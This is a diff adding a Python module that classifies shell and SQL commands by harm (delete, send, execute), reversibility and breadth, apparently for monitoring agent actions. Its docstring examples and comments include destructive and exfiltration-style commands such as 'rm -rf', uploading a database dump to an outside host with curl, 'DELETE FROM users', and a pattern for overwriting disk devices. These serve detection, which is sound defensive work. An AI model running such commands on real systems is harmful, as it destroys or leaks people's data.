@@ -1,0 +1,127 @@
+"""What a shell command or a SQL statement does: verb class, target, and whether it can be undone.
+
+The classifier of commands has three parts: this one takes a command line apart, `command_rules`
+knows the programs, `sql_statements` knows SQL.
+"""
+
+import functools
+import re
+import shlex
+from typing import NamedTuple
+
+from baselines.features import ACTIONS, Action
+
+from . import command_rules as rules
+from .sql_statements import read_sql
+
+MOST_CHARACTERS = 4_096
+"""What stands behind is not read: no command needs it, and every event is somebody else's."""
+_MOST_PARTS = 64
+_MOST_DEPTH = 2
+_SEPARATOR = re.compile(r"\|\||&&|[;|&\n`]|[$<]\(")
+_ASSIGNMENT = re.compile(r"[A-Za-z_]\w*=")
+_FILLER = re.compile(r"-.*|[\d.]+[smhd]?$|[A-Za-z_]\w*=")
+_ONTO_A_DISK = re.compile(r">\s*(/dev/(?:sd|hd|vd|xvd|nvme|disk|mmcblk)\w*)")
+_HARM: dict[Action, int] = {
+    **dict.fromkeys(ACTIONS, 1),
+    **{"other": 0, "read": 0, "write": 2, "auth": 3, "send": 3, "pay": 4, "admin": 4, "delete": 5},
+}
+
+
+class Meant(NamedTuple):
+    """What one command does."""
+
+    action: Action
+    target: str = ""
+    is_irreversible: bool = False
+    is_broad: bool = False
+    """It takes everything below its target."""
+    is_external: bool = False
+    """It sends something out."""
+
+
+@functools.lru_cache(4_096)
+def read_command(text: str) -> Meant | None:
+    """Read a command line or statement; of several, the most harmful counts. None: it is neither.
+
+    Shell commands are split at ``;``, ``|``, ``&&``, ``||`` and line ends, quoted or not: a
+    harmless text that looks harmful costs a look, the other way round costs the data. Looks
+    through ``sudo``, ``env``, ``nohup``, ``time``, ``xargs``, ``timeout`` and ``sh -c``. Reads at
+    most 4,096 characters, each once.
+
+    It misses what is spelt to deceive (variables, encodings, scripts from elsewhere): such a
+    command is *execute*, as every program is that it does not know.
+
+    Examples
+    --------
+    >>> read_command("cd /srv && sudo rm -rf data")
+    Meant(action='delete', target='data', is_irreversible=True, is_broad=True, is_external=False)
+    >>> read_command("git push --force origin main").is_irreversible
+    True
+    >>> read_command("curl -T dump.sql https://example.org/in")[:2]
+    ('send', 'https://example.org/in')
+    >>> read_command("DELETE FROM users").is_broad, read_command("SELECT 1").action
+    (True, 'read')
+    >>> read_command("weekly report") is None
+    True
+    """
+    text = text[:MOST_CHARACTERS].strip()
+    statement = read_sql(text)
+    if statement is not None:
+        return Meant(*statement)
+    onto_a_disk = _ONTO_A_DISK.search(text)
+    if onto_a_disk is not None:
+        return Meant("delete", onto_a_disk[1], is_irreversible=True, is_broad=True)
+    found = (_read_part(part) for part in _SEPARATOR.split(text)[:_MOST_PARTS])
+    return max((meant for meant in found if meant is not None), key=_harm, default=None)
+
+
+def _harm(meant: Meant) -> int:
+    return 4 * _HARM[meant.action] + meant.is_irreversible + meant.is_broad + meant.is_external
+
+
+def _read_part(part: str, depth: int = 0) -> Meant | None:
+    words = _unwrapped(_split(part))
+    if not words:
+        return None
+    program = _name(words[0])
+    if program in rules.SHELLS and depth < _MOST_DEPTH:
+        # `sh -c 'rm -rf /'`: the command is what it is given.
+        for index, word in enumerate(words[1:-1], start=1):
+            if word in ("-c", "-lc", "/c", "-Command", "-command"):
+                inner = _read_part(" ".join(words[index + 1 :]), depth + 1)
+                return inner or Meant("execute")
+    if program in rules.SQL_CLIENTS:
+        statements = (read_sql(word.strip()) for word in words[1:])
+        return next((Meant(*found) for found in statements if found), Meant("execute"))
+    rule = rules.find(program, words[1:])
+    if rule is None:
+        return Meant("execute") if program in rules.PROGRAMS else None
+    target = rule.target([word for word in words[1:] if not word.startswith("-")])
+    return Meant(rule.action, target, rule.is_irreversible, rule.is_broad, rule.is_external)
+
+
+def _split(part: str) -> list[str]:
+    try:
+        return shlex.split(part)
+    except ValueError:
+        # A quote that another part closes.
+        return [word.strip("'\"") for word in part.split()]
+
+
+def _name(word: str) -> str:
+    return word.rsplit("/", 1)[-1].lower()
+
+
+def _unwrapped(words: list[str]) -> list[str]:
+    """The command itself, without what only runs it."""
+    is_wrapped = True
+    while words and is_wrapped:
+        is_wrapped = _name(words[0]) in rules.WRAPPERS
+        if is_wrapped or _ASSIGNMENT.match(words[0]):
+            words, is_wrapped = words[1:], True
+            start = next((i for i, word in enumerate(words[:4]) if rules.is_known(_name(word))), 0)
+            words = words[start:]
+            while words and _FILLER.match(words[0]):
+                words = words[1:]
+    return words
